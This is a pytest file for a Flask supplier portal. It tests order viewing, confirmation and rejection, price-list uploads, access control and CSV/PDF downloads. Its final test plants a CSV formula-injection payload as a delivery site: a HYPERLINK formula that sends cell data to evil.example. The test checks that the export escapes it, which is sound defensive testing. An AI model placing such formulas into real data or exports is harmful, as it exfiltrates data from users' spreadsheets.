"""The supplier portal through Flask's test client, reading pooling's real API.

Catalog's pages call pooling over HTTP; here those calls go to pooling's own app
(its test client) with the bearer token catalog issued, so pooling's checks of
who may see and decide an order are the real ones.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from catalog.adapters.orm import Offer, User
from catalog.entrypoints.price_list_rows import MAX_ROWS
from catalog.service_layer import commands, handlers
from catalog.service_layer.price_lists import RowProblem
from catalog.service_layer.unit_of_work import SqlAlchemyUnitOfWork
from catalog.service_layer.users import create_user
from shared.db import transaction
from shared.events import Event
from shared.runtime import Runtime
from tests.api.conftest import Service
from tests.api.test_pooling_api import (
    DISP,
    SIL,
    WORKED_NEEDS,
    feed,
    need_posted,
    offer_updated,
    supplier_updated,
)
from tests.web.conftest import PASSWORD, Site, csrf_token, serve, sign_in
from web.clients.catalog_types import RowProblem as CatalogsProblem
from web.pages.price_list_pages import translated

A_DESK, B_DESK = "lager@supplier-a.example", "lager@supplier-b.example"


@pytest.fixture
def pooling(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Service]:
    """Pooling with the worked example closed: one order, to supplier A (catalog's first)."""
    from pooling.entrypoints.app import create_app

    settings = site.runtime.settings
    app = create_app(settings)
    runtime: Runtime = app.extensions["zirkel.runtime"]
    runtime.migrate()
    service = Service(app, app.test_client(), runtime)
    with transaction(site.runtime.sessions) as db:
        for name in ("Supplier A", "Supplier B"):
            cmd = commands.RegisterSupplier(name, "a@b.example", Decimal(25), Decimal(500))
            handlers.register_supplier(cmd, SqlAlchemyUnitOfWork(db, site.runtime.outbox))
        create_user(
            commands.CreateUser(A_DESK, PASSWORD, role="supplier", supplier_id=1),
            SqlAlchemyUnitOfWork(db),
        )
        create_user(
            commands.CreateUser(B_DESK, PASSWORD, role="supplier", supplier_id=2, language="en"),
            SqlAlchemyUnitOfWork(db),
        )
    feed(
        service,
        supplier_updated(1, "25.00", "500.00"),
        supplier_updated(2, "19.00", "300.00"),
        offer_updated(1, DISP, "1", [("0", "42.00"), ("10", "38.00"), ("25", "34.50")]),
        offer_updated(2, DISP, "1", [("0", "40.00"), ("20", "37.00")]),
        offer_updated(1, "SIL-300", "12", [("0", "4.20"), ("120", "3.60")]),
        *(sited(need) for need in WORKED_NEEDS),
    )
    closed = service.client.post("/api/v1/pools/close", headers=service.token("admin"))
    assert closed.status_code == 200, closed.get_json()
    serve(site, "pooling", app)
    yield service
    runtime.engine.dispose()


def sited(need: tuple[int, int, str, str]) -> Event:
    """Member 3's needs go to its site and are needed by 19 March, member 4's by 12 March."""
    event = need_posted(*need)
    site = "Baustelle Hansastraße 12" if need[1] == 3 else None
    needed_by = NEEDED_BY.get(need[1])
    return Event.of(
        event.event_type, event.payload | {"delivery_site": site, "needed_by": needed_by}
    )


NEEDED_BY = {3: date(2027, 3, 19), 4: date(2027, 3, 12)}


@pytest.fixture
def desk(site: Site, pooling: Service) -> FlaskClient:
    client = site.client()
    sign_in(client, A_DESK)
    return client


def order_id(pooling: Service) -> int:
    [order] = pooling.client.get("/api/v1/orders", headers=pooling.token("admin")).get_json()
    return int(order["id"])


def order_status(pooling: Service) -> dict[str, Any]:
    path = f"/api/v1/orders/{order_id(pooling)}"
    return pooling.client.get(path, headers=pooling.token("admin")).get_json()


def post(client: FlaskClient, page: str, action: str, **fields: Any) -> Any:
    token = csrf_token(client.get(page).get_data(as_text=True))
    return client.post(action, data=fields | {"csrf_token": token})


def test_a_supplier_signs_in_to_its_orders(site: Site, pooling: Service) -> None:
    client = site.client()
    token = csrf_token(client.get("/login").get_data(as_text=True))
    data = {"email": A_DESK, "password": PASSWORD, "csrf_token": token}

    response = client.post("/login", data=data, follow_redirects=True)

    assert response.request.path == "/supplier/orders" and response.status_code == 200
    assert "Bestellungen" in response.get_data(as_text=True)


def test_a_supplier_lands_on_its_orders_and_sees_its_own_only(
    site: Site, pooling: Service, desk: FlaskClient
) -> None:
    assert desk.get("/").location == "/supplier/orders"
    page = desk.get("/supplier/orders").get_data(as_text=True)
    assert f'id="order-{order_id(pooling)}"' in page
    assert "834,40\xa0€" in page

    other = site.client()
    sign_in(other, B_DESK)
    page = other.get("/supplier/orders").get_data(as_text=True)
    assert "No orders yet" in page and f'id="order-{order_id(pooling)}"' not in page


def test_the_order_shows_lines_prices_totals_and_the_split_per_site(
    pooling: Service, desk: FlaskClient
) -> None:
    response = desk.get(f"/supplier/orders/{order_id(pooling)}")

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "38,00\xa0€" in page and "532,00\xa0€" in page and "302,40\xa0€" in page
    assert '<strong id="order-total">834,40\xa0€</strong>' in page
    assert "Baustelle Hansastraße 12: 8" in page  # m3's DISP
    assert "Baustelle Hansastraße 12: 20" in page  # m3's SIL
    assert "Firmensitz: 6" in page and "Firmensitz: 44" in page


def test_another_suppliers_order_is_not_found_by_its_url(site: Site, pooling: Service) -> None:
    other = site.client()
    sign_in(other, B_DESK)
    oid = order_id(pooling)

    for path in ("", "/document.csv", "/document.pdf"):
        assert other.get(f"/supplier/orders/{oid}{path}").status_code == 404
    page = f"/supplier/orders/{oid}"
    token = csrf_token(other.get("/supplier/orders").get_data(as_text=True))
    when = (date.today() + timedelta(days=3)).isoformat()
    confirm = {"expected_delivery": when, "csrf_token": token}
    assert other.post(f"{page}/confirm", data=confirm).status_code == 404
    assert order_status(pooling)["status"] == "placed"


def test_confirming_needs_a_delivery_day_not_in_the_past(
    pooling: Service, desk: FlaskClient
) -> None:
    page = f"/supplier/orders/{order_id(pooling)}"

    empty = post(desk, page, f"{page}/confirm", expected_delivery="")
    past = post(desk, page, f"{page}/confirm", expected_delivery="2020-01-01")

    assert empty.status_code == 422
    assert 'id="expected_delivery-error"' in empty.get_data(as_text=True)
    assert past.status_code == 422
    assert "Vergangenheit" in past.get_data(as_text=True)
    assert order_status(pooling)["status"] == "placed"


def test_confirming_tells_pooling_the_delivery_day(pooling: Service, desk: FlaskClient) -> None:
    page = f"/supplier/orders/{order_id(pooling)}"
    when = date.today() + timedelta(days=5)

    response = post(desk, page, f"{page}/confirm", expected_delivery=when.isoformat())

    assert response.status_code == 302 and response.location == page
    shown = order_status(pooling)
    assert (shown["status"], shown["expected_delivery"]) == ("confirmed", when.isoformat())
    [event] = pooling.outbox("pooling.order.confirmed")
    assert event["payload"]["expected_delivery"] == when.isoformat()
    again = desk.get(page).get_data(as_text=True)
    assert "bestätigt" in again and 'action="/supplier/orders' not in again


def test_a_line_ticked_not_deliverable_goes_back_into_the_pool(
    pooling: Service, desk: FlaskClient
) -> None:
    page = f"/supplier/orders/{order_id(pooling)}"
    form = desk.get(page).get_data(as_text=True)
    assert 'name="declined" value="DISP-10L"' in form and "DISP-10L: nicht lieferbar" in form
    when = (date.today() + timedelta(days=5)).isoformat()

    everything = post(desk, page, f"{page}/confirm", expected_delivery=when, declined=[DISP, SIL])
    assert order_status(pooling)["status"] == "placed"
    assert "Sie können nicht alle Positionen ablehnen" in desk.get(page).get_data(as_text=True)
    response = post(desk, page, f"{page}/confirm", expected_delivery=when, declined=[DISP])

    assert (everything.status_code, response.status_code) == (302, 302)
    shown = order_status(pooling)
    assert shown["status"] == "confirmed"
    assert {line["sku"]: line["declined"] for line in shown["lines"]} == {DISP: True, SIL: False}
    [event] = pooling.outbox("pooling.order.confirmed")
    assert event["payload"]["declined"] == [DISP]
    shown_page = desk.get(page).get_data(as_text=True)
    assert "Als nicht lieferbar abgelehnt: DISP-10L" in shown_page
    assert "302,40\xa0€" in shown_page and "327,40\xa0€" in shown_page  # goods, total
    assert "834,40\xa0€" not in shown_page


def test_rejecting_needs_a_reason_and_puts_the_needs_back(
    pooling: Service, desk: FlaskClient
) -> None:
    page = f"/supplier/orders/{order_id(pooling)}"

    empty = post(desk, page, f"{page}/reject", reason="  ")
    assert empty.status_code == 422 and 'id="reason-error"' in empty.get_data(as_text=True)
    unseen = post(desk, page, f"{page}/reject", reason="\u200b\u200b")
    message = "Darf keine Steuerzeichen und keine unsichtbaren Zeichen enthalten."
    assert unseen.status_code == 422
    assert f'id="reason-error">{message}' in unseen.get_data(as_text=True)
    assert order_status(pooling)["status"] == "placed"
    response = post(desk, page, f"{page}/reject", reason="Silikon erst im Mai lieferbar")

    assert response.status_code == 302
    shown = order_status(pooling)
    assert (shown["status"], shown["reject_reason"]) == (
        "rejected",
        "Silikon erst im Mai lieferbar",
    )
    pool = pooling.client.get("/api/v1/pools/current", headers=pooling.token("admin")).get_json()
    assert {p["sku"]: p["quantity"] for p in pool["products"]} == {DISP: "14", "SIL-300": "64"}


def test_the_forms_need_their_csrf_token(pooling: Service, desk: FlaskClient) -> None:
    page = f"/supplier/orders/{order_id(pooling)}"
    assert desk.post(f"{page}/reject", data={"reason": "nope"}).status_code == 400
    assert order_status(pooling)["status"] == "placed"


@pytest.mark.parametrize(
    ("file", "mimetype", "filename", "row"),
    [
        ("document.pdf", "application/pdf", "bestellung-{}.pdf", None),
        ("document.csv", "text/csv", "bestellung-{}.csv", ";;;;Baustelle Hansastraße 12\r\n"),
        (
            "allocations.csv",
            "text/csv",
            "aufteilung-{}.csv",
            ";3;3;8;piece;Baustelle Hansastraße 12",
        ),
    ],
)
def test_the_order_downloads_as_pdf_and_csv_files(
    pooling: Service, desk: FlaskClient, file: str, mimetype: str, filename: str, row: str | None
) -> None:
    oid = order_id(pooling)
    page = desk.get(f"/supplier/orders/{oid}").get_data(as_text=True)
    assert f'href="/supplier/orders/{oid}/{file}"' in page

    response = desk.get(f"/supplier/orders/{oid}/{file}")

    assert response.status_code == 200 and response.mimetype == mimetype
    assert f'filename="{filename.format(oid)}"' in response.headers["Content-Disposition"]
    assert row is None or row in response.get_data(as_text=True)


PRICE_LIST = (
    "sku;name;unit;pack_size;tiers;valid_from\n"
    "DISP-10L;Dispersionsfarbe 10 l;bucket;1;0:41.00|10:37.00;2030-03-01\n"
    "GRUND-5L;Tiefgrund 5 l;bucket;1;0:12.50;\n"
)


def upload(client: FlaskClient, text: str) -> Any:
    import io

    token = csrf_token(client.get("/supplier/price-list").get_data(as_text=True))
    data = {"file": (io.BytesIO(text.encode()), "preise.csv"), "csrf_token": token}
    return client.post("/supplier/price-list", data=data, content_type="multipart/form-data")


def test_a_supplier_uploads_its_price_list(site: Site, desk: FlaskClient) -> None:
    response = upload(desk, PRICE_LIST)

    assert response.status_code == 200, response.get_data(as_text=True)
    page = response.get_data(as_text=True)
    assert "2 Angebote gesetzt" in page and "GRUND-5L" in page
    with transaction(site.runtime.sessions) as db:
        offers = {o.product.sku: o.valid_from for o in db.scalars(select(Offer))}
    assert offers == {"DISP-10L": date(2030, 3, 1), "GRUND-5L": None}


def test_a_bad_price_list_is_shown_row_by_row_and_nothing_is_stored(
    site: Site, desk: FlaskClient
) -> None:
    bad = PRICE_LIST + "SIL-300;Silikon;cartridge;0;0:4.20;\nKREPP;Krepp;roll;1;10:3.00;\n"

    response = upload(desk, bad)

    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert (
        '<td data-label="Zeile">4</td>'
        '<td data-label="Spalte">pack_size</td>'
        '<td data-label="Problem">Muss größer als 0 sein.</td>' in page
    )
    assert '<td data-label="Zeile">5</td><td data-label="Spalte">tiers</td>' in page
    with transaction(site.runtime.sessions) as db:
        assert db.scalars(select(Offer)).all() == []


def test_a_tier_written_wrong_is_told_in_the_readers_language(desk: FlaskClient) -> None:
    bad = PRICE_LIST + "KREPP;Krepp;roll;1;0-3.00;\n"

    page = upload(desk, bad).get_data(as_text=True)

    assert (
        '<td data-label="Zeile">4</td>'
        '<td data-label="Spalte">tiers</td>'
        '<td data-label="Problem">Staffel 1 (0-3.00) ist nicht Mindestmenge:Stückpreis,'
        " z. B. 10:38,00.</td>"
    ) in page


def test_a_price_list_over_the_row_limit_is_refused_in_the_readers_language(
    desk: FlaskClient,
) -> None:
    rows = "".join(f"ART-{n:05d};Artikel {n};piece;1;0:1.00;\n" for n in range(MAX_ROWS + 1))

    response = upload(desk, PRICE_LIST.splitlines(keepends=True)[0] + rows)

    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert (
        f'<td data-label="Zeile">{MAX_ROWS + 2}</td>'
        '<td data-label="Spalte">\u2013</td>'
        f'<td data-label="Problem">Mehr als {MAX_ROWS} Zeilen.</td>' in page
    )


def test_the_size_limit_is_told_in_the_readers_language(site: Site) -> None:
    """The portal's form takes no body over the app's limit, so no upload gets this far."""
    too_large = RowProblem(
        None, None, "The price list is larger than %(kib)s KiB; split it into parts.", {"kib": 1024}
    )
    answered = CatalogsProblem(None, None, too_large.text, too_large.message, too_large.values)
    with site.app.test_request_context(headers={"Accept-Language": "de"}):
        [shown] = translated([answered])
    assert shown["message"] == (
        "Die Preisliste ist größer als 1024 KiB; bitte teilen Sie sie in mehrere Teile."
    )
    assert too_large.as_dict()["message"] == (
        "The price list is larger than 1024 KiB; split it into parts."
    )


def test_an_upload_without_a_file_is_refused_beside_the_field(desk: FlaskClient) -> None:
    token = csrf_token(desk.get("/supplier/price-list").get_data(as_text=True))
    response = desk.post("/supplier/price-list", data={"csrf_token": token})
    assert response.status_code == 422 and 'id="file-error"' in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/needs", "/needs/new", "/pool", "/savings", "/admin/users"])
def test_a_supplier_reaches_no_member_or_office_page(desk: FlaskClient, path: str) -> None:
    assert desk.get(path).status_code == 403


@pytest.mark.parametrize("path", ["/supplier/orders", "/supplier/orders/1", "/supplier/price-list"])
def test_members_and_admins_do_not_reach_the_portal(
    site: Site, member: FlaskClient, path: str
) -> None:
    assert member.get(path).status_code == 403
    admin = site.client()
    sign_in(admin, "admin@zirkel.example")
    assert admin.get(path).status_code == 403
    assert site.client().get(path).status_code == 302  # a stranger signs in first


def test_the_portal_in_english(site: Site, pooling: Service) -> None:
    other = site.client()
    sign_in(other, B_DESK)  # this desk chose English
    page = other.get("/supplier/orders").get_data(as_text=True)
    assert "Orders" in page and "Price list" in page and "The pool now" not in page


def test_the_orders_page_says_so_when_pooling_does_not_answer(site: Site) -> None:
    with transaction(site.runtime.sessions) as db:
        cmd = commands.RegisterSupplier("Supplier A", "a@b.example", Decimal(25), None)
        handlers.register_supplier(cmd, SqlAlchemyUnitOfWork(db, site.runtime.outbox))
        create_user(
            commands.CreateUser(A_DESK, PASSWORD, role="supplier", supplier_id=1),
            SqlAlchemyUnitOfWork(db),
        )
    client = site.client()
    sign_in(client, A_DESK)
    assert "pooling" in client.get("/supplier/orders").get_data(as_text=True)
    assert client.get("/supplier/orders/1").status_code == 503


def test_the_office_creates_a_suppliers_sign_in(site: Site) -> None:
    with transaction(site.runtime.sessions) as db:
        cmd = commands.RegisterSupplier("Farben Nord", "a@b.example", Decimal(25), None)
        supplier_id = handlers.register_supplier(
            cmd, SqlAlchemyUnitOfWork(db, site.runtime.outbox)
        ).id
    admin = site.client()
    sign_in(admin, "admin@zirkel.example")
    page = admin.get("/admin/users").get_data(as_text=True)
    token = csrf_token(page)
    fields = {"supplier-email": "desk@farben-nord.example", "supplier-password": "kurz"}
    fields |= {"supplier-supplier_id": str(supplier_id), "supplier-language": "de"}

    short = admin.post("/admin/users/supplier", data=fields | {"supplier-csrf_token": token})
    assert short.status_code == 422
    assert 'id="supplier-password-error"' in short.get_data(as_text=True)
    fields["supplier-password"] = "lang-genug-1"
    done = admin.post("/admin/users/supplier", data=fields | {"supplier-csrf_token": token})

    assert done.status_code == 302
    with transaction(site.runtime.sessions) as db:
        user = db.scalars(select(User).where(User.email == "desk@farben-nord.example")).one()
        assert (user.role, user.supplier_id, user.member_id) == ("supplier", supplier_id, None)
    newcomer = site.client()
    sign_in(newcomer, "desk@farben-nord.example", "lang-genug-1")
    assert newcomer.get("/supplier/orders").status_code == 200


def test_a_formula_typed_as_a_delivery_site_downloads_as_text(
    pooling: Service, desk: FlaskClient
) -> None:
    """Issue 15: the portal hands out pooling's CSV, where such a site is text."""
    event = need_posted(10, 1, "SIL-300", "12")
    site = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'
    feed(pooling, Event.of(event.event_type, event.payload | {"delivery_site": site}))
    closed = pooling.client.post("/api/v1/pools/close", headers=pooling.token("admin"))
    [order] = closed.get_json()["orders"]

    document = desk.get(f"/supplier/orders/{order['id']}/document.csv").get_data(as_text=True)

    assert ';"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Klick"")"\r\n' in document
